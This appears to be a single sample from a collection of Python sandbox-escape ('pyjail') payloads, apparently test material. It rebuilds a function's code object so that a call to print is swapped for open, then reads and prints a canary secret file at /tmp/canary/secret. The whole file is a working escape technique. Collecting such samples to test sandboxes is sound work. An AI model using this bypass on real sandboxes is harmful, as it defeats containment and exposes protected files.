# source: pyjail lore
# effect: secret

import types


def template():
    return print("/tmp/canary/secret")


old = template.__code__
new = types.CodeType(
    old.co_argcount, old.co_posonlyargcount, old.co_kwonlyargcount, old.co_nlocals, old.co_stacksize, old.co_flags,
    old.co_code, old.co_consts, ("open",), old.co_varnames, old.co_filename, old.co_name, old.co_qualname,
    old.co_firstlineno, old.co_linetable, old.co_exceptiontable, old.co_freevars, old.co_cellvars)
print(types.FunctionType(new, {})().read())
